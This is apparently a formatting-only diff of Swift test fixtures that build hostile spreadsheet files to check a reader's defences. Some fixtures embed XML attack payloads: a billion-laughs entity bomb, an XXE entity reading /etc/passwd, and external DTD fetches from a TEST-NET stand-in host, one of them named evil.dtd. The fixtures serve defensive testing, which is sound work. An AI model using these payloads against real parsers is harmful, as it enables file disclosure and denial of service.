@@ -20,11 +20,13 @@ extension ConformanceFixtures {
     /// A plain workbook for the container defects: a shared string, a number, a date.
     private static func plainBook(rowCount: Int = 3) -> X {
         let rows = (1...rowCount).map { index in
-            row(index, shared("A\(index)", index - 1), number("B\(index)", "\(index)"),
+            row(
+                index, shared("A\(index)", index - 1), number("B\(index)", "\(index)"),
                 number("C\(index)", "\(45965 + index)", style: 1))
         }.joined()
-        return X(rows: rows, sharedStrings: X.sharedStrings((1...rowCount).map { "Pekerja \($0)" }),
-                 styles: generalAndDateStyles)
+        return X(
+            rows: rows, sharedStrings: X.sharedStrings((1...rowCount).map { "Pekerja \($0)" }),
+            styles: generalAndDateStyles)
     }
 
     private static func corrupted(_ corruptions: [ZipCorruption], rowCount: Int = 3) -> [UInt8] {
@@ -55,10 +57,11 @@ extension ConformanceFixtures {
     /// A CFB container with the streams of an encrypted OOXML package.
     public static let encrypted = ConformanceFixture(.hostile, "encrypted.xlsx", items: [9]) {
         var info: [UInt8] = [0x04, 0x00, 0x04, 0x00, 0x40, 0x00, 0x00, 0x00]
-        info += Array(("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
-            + "<encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\">"
-            + "<keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" cipherAlgorithm=\"AES\""
-            + " cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\"/></encryption>").utf8)
+        info += Array(
+            ("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n"
+                + "<encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\">"
+                + "<keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" cipherAlgorithm=\"AES\""
+                + " cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\"/></encryption>").utf8)
         var package: [UInt8] = []
         package.appendLittleEndian(UInt64(4096))
         var state: UInt32 = 0x5349_4741  // "SIGA": a fixed seed for the stand-in cipher text
@@ -72,37 +75,44 @@ extension ConformanceFixtures {
     /// A CFB container with a BIFF8 `Workbook` stream, as Excel 97-2003 writes.
     public static let legacyXLS = ConformanceFixture(.hostile, "legacy-xls.xlsx", items: [9]) {
         // BOF record: type 0x0809, 16 bytes, BIFF8, workbook globals, build 0x0DBB, year 1996.
-        let bof: [UInt8] = [0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00, 0xBB, 0x0D, 0xCC, 0x07,
-                            0x00, 0x00, 0x00, 0x00, 0x06, 0x00, 0x00, 0x00]
+        let bof: [UInt8] = [
+            0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00, 0xBB, 0x0D, 0xCC, 0x07,
+            0x00, 0x00, 0x00, 0x00, 0x06, 0x00, 0x00, 0x00,
+        ]
         let eof: [UInt8] = [0x0A, 0x00, 0x00, 0x00]
         return CompoundFile.make(streams: [("Workbook", bof + eof)])
     }
 
     public static let htmlRenamed = ConformanceFixture(.hostile, "html-renamed.xlsx", items: [9]) {
-        Array(("<!DOCTYPE html>\n<html lang=\"id\"><head><meta charset=\"utf-8\"><title>Data Pekerja</title></head>"
-            + "<body><table><tr><th>NIK</th><th>NAMA</th></tr>"
-            + "<tr><td>3275014101900001</td><td>SITI</td></tr></table></body></html>\n").utf8)
+        Array(
+            ("<!DOCTYPE html>\n<html lang=\"id\"><head><meta charset=\"utf-8\"><title>Data Pekerja</title></head>"
+                + "<body><table><tr><th>NIK</th><th>NAMA</th></tr>"
+                + "<tr><td>3275014101900001</td><td>SITI</td></tr></table></body></html>\n").utf8)
     }
 
     /// What "Save as Web Page" or a web application's "Export to Excel" produces: BOM, then `<html xmlns...>`.
     public static let htmlExcelExport = ConformanceFixture(.hostile, "html-excel-export.xlsx", items: [9]) {
-        [0xEF, 0xBB, 0xBF] + Array(("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\""
-            + " xmlns:x=\"urn:schemas-microsoft-com:office:excel\" xmlns=\"http://www.w3.org/TR/REC-html40\">\r\n"
-            + "<head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head>\r\n"
-            + "<body><table><tr><td>NIK</td><td>NAMA</td></tr></table></body></html>\r\n").utf8)
+        [0xEF, 0xBB, 0xBF]
+            + Array(
+                ("<html xmlns:o=\"urn:schemas-microsoft-com:office:office\""
+                    + " xmlns:x=\"urn:schemas-microsoft-com:office:excel\" xmlns=\"http://www.w3.org/TR/REC-html40\">\r\n"
+                    + "<head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head>\r\n"
+                    + "<body><table><tr><td>NIK</td><td>NAMA</td></tr></table></body></html>\r\n").utf8)
     }
 
     public static let csvRenamed = ConformanceFixture(.hostile, "csv-renamed.xlsx", items: [9]) {
-        Array("NIK,NAMA,TANGGAL LAHIR\n3275014101900001,SITI AMINAH,01/01/1990\n3275015505850002,BUDI,15/05/1985\n"
-            .utf8)
+        Array(
+            "NIK,NAMA,TANGGAL LAHIR\n3275014101900001,SITI AMINAH,01/01/1990\n3275015505850002,BUDI,15/05/1985\n"
+                .utf8)
     }
 
     public static let xmlSpreadsheet2003 = ConformanceFixture(.hostile, "xml-spreadsheet-2003.xlsx", items: [9]) {
-        Array(("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?>\n"
-            + "<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\""
-            + " xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">\n"
-            + " <Worksheet ss:Name=\"Sheet1\"><Table><Row><Cell><Data ss:Type=\"String\">NIK</Data></Cell></Row>"
-            + "</Table></Worksheet>\n</Workbook>\n").utf8)
+        Array(
+            ("<?xml version=\"1.0\"?>\n<?mso-application progid=\"Excel.Sheet\"?>\n"
+                + "<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\""
+                + " xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">\n"
+                + " <Worksheet ss:Name=\"Sheet1\"><Table><Row><Cell><Data ss:Type=\"String\">NIK</Data></Cell></Row>"
+                + "</Table></Worksheet>\n</Workbook>\n").utf8)
     }
 
     /// Binary that is neither a zip nor text: a PNG header and a little noise.
@@ -144,50 +154,70 @@ extension ConformanceFixtures {
     public static let doctypeBillionLaughs = ConformanceFixture(.hostile, "doctype-billion-laughs.xlsx", items: [30]) {
         var entities = "<!ENTITY lol0 \"lol\">\n"
         for level in 1...9 {
-            entities += "<!ENTITY lol\(level) \""
+            entities +=
+                "<!ENTITY lol\(level) \""
                 + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
         }
         var book = X(rows: "")
-        book.overrides = [(sheetPart, "<?xml version=\"1.0\"?>\n<!DOCTYPE worksheet [\n\(entities)]>\n"
-            + "<worksheet xmlns=\"\(X.mainNamespace)\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\">"
-            + "<is><t>&lol9;</t></is></c></row></sheetData></worksheet>")]
+        book.overrides = [
+            (
+                sheetPart,
+                "<?xml version=\"1.0\"?>\n<!DOCTYPE worksheet [\n\(entities)]>\n"
+                    + "<worksheet xmlns=\"\(X.mainNamespace)\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\">"
+                    + "<is><t>&lol9;</t></is></c></row></sheetData></worksheet>"
+            )
+        ]
         return book.archive()
     }
 
     public static let doctypeExternalFile = ConformanceFixture(.hostile, "doctype-external-file.xlsx", items: [30]) {
-        X(rows: row(1, shared("A1", 0)),
-          sharedStrings: "<?xml version=\"1.0\"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
-            + "<sst xmlns=\"\(X.mainNamespace)\" count=\"1\" uniqueCount=\"1\"><si><t>&xxe;</t></si></sst>").archive()
+        X(
+            rows: row(1, shared("A1", 0)),
+            sharedStrings: "<?xml version=\"1.0\"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
+                + "<sst xmlns=\"\(X.mainNamespace)\" count=\"1\" uniqueCount=\"1\"><si><t>&xxe;</t></si></sst>"
+        ).archive()
     }
 
     /// The address is in TEST-NET-1 (RFC 5737): a reader that tries to fetch it hangs, never succeeds.
     public static let doctypeExternalHTTP = ConformanceFixture(.hostile, "doctype-external-http.xlsx", items: [30]) {
         var book = X(rows: row(1, number("A1", "1")))
-        book.overrides = [("xl/workbook.xml", "<?xml version=\"1.0\"?>\n"
-            + "<!DOCTYPE workbook SYSTEM \"http://192.0.2.1/workbook.dtd\">\n"
-            + "<workbook xmlns=\"\(X.mainNamespace)\" xmlns:r=\"\(X.relationshipsNamespace)\">"
-            + "<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>")]
+        book.overrides = [
+            (
+                "xl/workbook.xml",
+                "<?xml version=\"1.0\"?>\n"
+                    + "<!DOCTYPE workbook SYSTEM \"http://192.0.2.1/workbook.dtd\">\n"
+                    + "<workbook xmlns=\"\(X.mainNamespace)\" xmlns:r=\"\(X.relationshipsNamespace)\">"
+                    + "<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
+            )
+        ]
         return book.archive()
     }
 
     public static let doctypeParameterEntity = ConformanceFixture(
         .hostile, "doctype-parameter-entity.xlsx", items: [30]
     ) {
-        X(rows: row(1, number("A1", "45966", style: 1)),
-          styles: "<?xml version=\"1.0\"?>\n<!DOCTYPE styleSheet [\n"
-            + "<!ENTITY % remote SYSTEM \"http://192.0.2.1/evil.dtd\">\n%remote;\n]>\n"
-            + "<styleSheet xmlns=\"\(X.mainNamespace)\"><cellXfs count=\"2\"><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/>"
-            + "</cellXfs></styleSheet>").archive()
+        X(
+            rows: row(1, number("A1", "45966", style: 1)),
+            styles: "<?xml version=\"1.0\"?>\n<!DOCTYPE styleSheet [\n"
+                + "<!ENTITY % remote SYSTEM \"http://192.0.2.1/evil.dtd\">\n%remote;\n]>\n"
+                + "<styleSheet xmlns=\"\(X.mainNamespace)\"><cellXfs count=\"2\"><xf numFmtId=\"0\"/><xf numFmtId=\"14\"/>"
+                + "</cellXfs></styleSheet>"
+        ).archive()
     }
 
     public static let doctypeInRelationships = ConformanceFixture(
         .hostile, "doctype-in-relationships.xlsx", items: [30]
     ) {
         var book = X(rows: row(1, number("A1", "1")))
-        book.overrides = [("_rels/.rels", "<?xml version=\"1.0\"?>\n"
-            + "<!DOCTYPE Relationships [<!ENTITY target \"xl/workbook.xml\">]>\n"
-            + "<Relationships xmlns=\"\(X.packageRelationshipsNamespace)\"><Relationship Id=\"rId1\""
-            + " Type=\"\(X.officeRelationshipType("officeDocument"))\" Target=\"&target;\"/></Relationships>")]
+        book.overrides = [
+            (
+                "_rels/.rels",
+                "<?xml version=\"1.0\"?>\n"
+                    + "<!DOCTYPE Relationships [<!ENTITY target \"xl/workbook.xml\">]>\n"
+                    + "<Relationships xmlns=\"\(X.packageRelationshipsNamespace)\"><Relationship Id=\"rId1\""
+                    + " Type=\"\(X.officeRelationshipType("officeDocument"))\" Target=\"&target;\"/></Relationships>"
+            )
+        ]
         return book.archive()
     }
 
@@ -197,11 +227,15 @@ extension ConformanceFixtures {
     private static func nested(depth: Int) -> [UInt8] {
         // worksheet, extLst and ext are three levels; the rest are <d:n>.
         let inner = depth - 3
-        return X(sheets: [X.Sheet(name: "Sheet1", xml: X.worksheet(
-            row(1, number("A1", "1")),
-            after: "<extLst><ext uri=\"urn:example:deep\" xmlns:d=\"urn:example:deep\">"
-                + String(repeating: "<d:n>", count: inner) + String(repeating: "</d:n>", count: inner)
-                + "</ext></extLst>"))]).archive()
+        return X(sheets: [
+            X.Sheet(
+                name: "Sheet1",
+                xml: X.worksheet(
+                    row(1, number("A1", "1")),
+                    after: "<extLst><ext uri=\"urn:example:deep\" xmlns:d=\"urn:example:deep\">"
+                        + String(repeating: "<d:n>", count: inner) + String(repeating: "</d:n>", count: inner)
+                        + "</ext></extLst>"))
+        ]).archive()
     }
 
     public static let nesting300 = ConformanceFixture(.hostile, "nesting-300.xlsx", items: [33]) {
@@ -223,8 +257,10 @@ extension ConformanceFixtures {
 
     /// Exactly 32,767 characters: "é" (two UTF-8 bytes) in a shared string, "x" inline.
     public static let cellTextAtLimit = ConformanceFixture(.xlsx, "33-cell-text-at-limit.xlsx", items: [33]) {
-        X(rows: row(1, shared("A1", 0), inline("B1", String(repeating: "x", count: 32_767))),
-          sharedStrings: X.sharedStrings([String(repeating: "é", count: 32_767)])).archive()
+        X(
+            rows: row(1, shared("A1", 0), inline("B1", String(repeating: "x", count: 32_767))),
+            sharedStrings: X.sharedStrings([String(repeating: "é", count: 32_767)])
+        ).archive()
     }
 
     // MARK: Item 31: compressible but legitimate
@@ -234,8 +270,10 @@ extension ConformanceFixtures {
         .xlsx, "31-highly-compressible-styles.xlsx", items: [31]
     ) {
         let formats = [Int](repeating: 0, count: 39_999) + [14]
-        return X(rows: row(1, number("A1", "45966", style: 39_999), number("B1", "45966", style: 39_998)),
-                 styles: X.styles(cellFormats: formats)).archive()
+        return X(
+            rows: row(1, number("A1", "45966", style: 39_999), number("B1", "45966", style: 39_998)),
+            styles: X.styles(cellFormats: formats)
+        ).archive()
     }
 
     // MARK: Item 32: truncated archives, bad offsets, overlapping entries
@@ -256,7 +294,8 @@ extension ConformanceFixtures {
         let whole = plainBook(rowCount: 200).archive()
         // The end record's last fields: central directory size (at -10) and offset (at -6).
         let end = whole.count - 22
-        let offset = Int(whole[end + 16]) | Int(whole[end + 17]) << 8 | Int(whole[end + 18]) << 16
+        let offset =
+            Int(whole[end + 16]) | Int(whole[end + 17]) << 8 | Int(whole[end + 18]) << 16
             | Int(whole[end + 19]) << 24
         return corrupted([.truncate(bytes: offset + 30)], rowCount: 200)
     }
